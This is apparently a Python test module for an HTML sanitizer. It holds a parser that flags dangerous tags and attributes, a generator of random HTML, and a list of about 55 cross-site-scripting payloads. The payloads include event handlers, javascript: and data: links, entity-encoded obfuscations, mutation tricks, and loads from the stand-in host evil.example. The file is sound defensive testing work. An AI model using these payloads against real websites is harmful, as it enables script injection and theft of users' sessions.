"""HTML that attacks, HTML of any kind, and a parser that finds what is dangerous in it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import strategies as st

#: Characters that XML 1.0 forbids or discourages (section 2.2), and lone surrogates, which no encoding accepts.
CONTROLS = "\x00\x01\x08\x0b\x0c\x0e\x1f\x7f\x80\x9f\ud800\udfff\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0010ffff"
VOID = frozenset("area br col embed hr img input link meta source track wbr".split())
URL_ATTRIBUTES = frozenset("href src cite poster action formaction data srcset background ping".split())
FORBIDDEN = frozenset(
    "script style iframe frame frameset object embed applet form input button select textarea svg math base link meta "
    "title template noscript marquee isindex".split()
)


class Markup(HTMLParser):
    """The elements of HTML: what is dangerous in them, and which tags have no partner."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.unbalanced: list[str] = []
        self._open: list[str] = []
        self.feed(html)
        self.close()
        self.unbalanced += self._open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.dangers.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name == "style" or (name in URL_ATTRIBUTES and not _is_web(value)):
                self.dangers.append(f"{name}={value}")
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._open and self._open[-1] == tag:
            self._open.pop()
        else:
            self.unbalanced.append(f"/{tag}")


def _is_web(value: str | None) -> bool:
    return bool(value and re.match(r"(?:https?://|mailto:)[^\s<>\"]+$", value))


FRAGMENTS = (
    "<p> </p> <div> </div> <b> </b> <i> </i> <a> </a> <table> </table> <tr> <td> </td> <ul> <li> </ul> <pre> </pre> "
    "<br> <hr> <img> <h1> </h1> <script> </script> <style> </style> <iframe> </iframe> <!-- --> <svg> </svg> <math> "
    "<mtext> <select> <option> <textarea> </textarea> <title> <noscript> </noscript> <template> <form> <button> "
    "<details> <summary> <dl> <dt> <dd> <ruby> <rt> <caption> <font> <object> <body> <picture> <xmp> <![CDATA[ ]]> <? "
    "<! < > & &amp; &lt; &#1; &#11; &#xFFFE; &#x85; &nbsp; &copy text \" ' ="
).split()
ATTRIBUTES = (
    "<a href='/x'>",
    "<a href='#x'>",
    "<a href='mailto:a@example.com'>",
    "<a href='javascript:x'>",
    "<a href='https://example.com/?a=&amp;amp;b'>",
    "<img src=a.png alt='x > y'>",
    "<img src='data:,x'>",
    "<p title='\"<p>&#1;'>",
    "<p onclick=x style=y>",
    "<pre lang=en>",
    "\n",
    " ",
    *CONTROLS,
)
#: Any text, most of it HTML.
markup = st.one_of(st.lists(st.sampled_from([*FRAGMENTS, *ATTRIBUTES]), max_size=8).map("".join), st.text())

#: HTML that would run a script, open a frame, load a style or request an address.
VECTORS = [
    pytest.param("<script>steal()</script>", id="script"),
    pytest.param("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", id="script in upper case"),
    pytest.param("<script\n>steal()</script\n>", id="script with line breaks"),
    pytest.param("<p><script>steal()", id="script without an end"),
    pytest.param("<svg><script>steal()</script></svg>", id="script in svg"),
    pytest.param("<svg onload=steal()>", id="svg that loads"),
    pytest.param("<svg><a xlink:href='javascript:steal()' href='javascript:steal()'>x</a></svg>", id="link in svg"),
    pytest.param("<svg><animate onbegin=steal() attributeName=x></svg>", id="svg animation"),
    pytest.param("<math><mtext><table><mglyph><style><img src=x onerror=steal()>", id="math, table and style"),
    pytest.param("<math href='javascript:steal()'>x</math>", id="link of math"),
    pytest.param("<img src=x onerror=steal()>", id="onerror"),
    pytest.param("<img src='https://example.com/a.png'onerror=steal()>", id="onerror without a space"),
    pytest.param("<img/src='x'/onerror=steal()>", id="slashes for spaces"),
    pytest.param("<img src='x' OnErRoR='steal()'>", id="onerror in mixed case"),
    pytest.param("<video><source onerror=steal() src=x></video>", id="onerror of a source"),
    pytest.param("<audio src=x onloadstart=steal()>", id="onloadstart"),
    pytest.param("<details open ontoggle=steal()>", id="ontoggle"),
    pytest.param("<body onload=steal()>", id="onload of the body"),
    pytest.param("<a onmouseover=steal()>x</a>", id="onmouseover"),
    pytest.param("<a href='javascript:steal()'>x</a>", id="javascript link"),
    pytest.param("<a href='JaVaScRiPt:steal()'>x</a>", id="javascript link in mixed case"),
    pytest.param("<a href=' \x01javascript:steal()'>x</a>", id="javascript link after a control character"),
    pytest.param("<a href='java\tscript:steal()'>x</a>", id="javascript link with a tab"),
    pytest.param("<a href='java&#10;script:steal()'>x</a>", id="javascript link with an encoded line break"),
    pytest.param("<a href='&#106;&#x61;vascript&colon;steal()'>x</a>", id="javascript link in entities"),
    pytest.param("<a href='&amp;#106;avascript:steal()'>x</a>", id="javascript link encoded twice"),
    pytest.param("<a href='vbscript:steal()'>x</a>", id="vbscript link"),
    pytest.param("<a href='data:text/html,<script>steal()</script>'>x</a>", id="data link"),
    pytest.param("<a href='file:///etc/passwd'>x</a>", id="file link"),
    pytest.param("<img src='javascript:steal()'>", id="javascript image"),
    pytest.param("<img src='data:image/svg+xml,<svg onload=steal()>'>", id="data image"),
    pytest.param("<video poster='javascript:steal()' src='data:,x'></video>", id="poster"),
    pytest.param("<blockquote cite='javascript:steal()'>x</blockquote>", id="cite"),
    pytest.param("<form action='javascript:steal()'><button formaction='javascript:steal()'>x", id="form"),
    pytest.param("<input autofocus onfocus=steal()>", id="input"),
    pytest.param("<iframe src='https://evil.example/'></iframe>", id="iframe"),
    pytest.param("<iframe srcdoc='<script>steal()</script>'></iframe>", id="iframe with srcdoc"),
    pytest.param("<frameset><frame src='https://evil.example/'></frameset>", id="frames"),
    pytest.param("<object data='https://evil.example/x.swf'></object>", id="object"),
    pytest.param("<embed src='https://evil.example/x.swf'>", id="embed"),
    pytest.param("<base href='https://evil.example/'>", id="base"),
    pytest.param("<meta http-equiv=refresh content='0;url=https://evil.example/'>", id="refresh"),
    pytest.param("<link rel=stylesheet href='https://evil.example/x.css'>", id="style sheet"),
    pytest.param("<style>body{background:url(https://evil.example/)}</style>", id="style element"),
    pytest.param("<p style='background:url(https://evil.example/)'>x</p>", id="style attribute"),
    pytest.param("<td background='javascript:steal()'>x</td>", id="background"),
    pytest.param("<table><tr><td><img src=x onerror=steal()>", id="unclosed table"),
    pytest.param("<noscript><p title='</noscript><img src=x onerror=steal()>'>", id="noscript"),
    pytest.param("<textarea><p title='</textarea><img src=x onerror=steal()>'>", id="textarea"),
    pytest.param("<title><p title='</title><img src=x onerror=steal()>'>", id="title"),
    pytest.param("<template><img src=x onerror=steal()></template>", id="template"),
    pytest.param("<?xml ?><img src=x onerror=steal()>", id="processing instruction"),
    pytest.param("<<img src=x onerror=steal()>", id="two angle brackets"),
    pytest.param("<x onclick=steal()>x</x>", id="unknown element"),
    pytest.param("<a ping='ftp://evil.example/' href='https://example.com/'>x</a>", id="ping"),
    pytest.param("<img srcset='x 2x' src='https://example.com/a.png'>", id="srcset"),
]
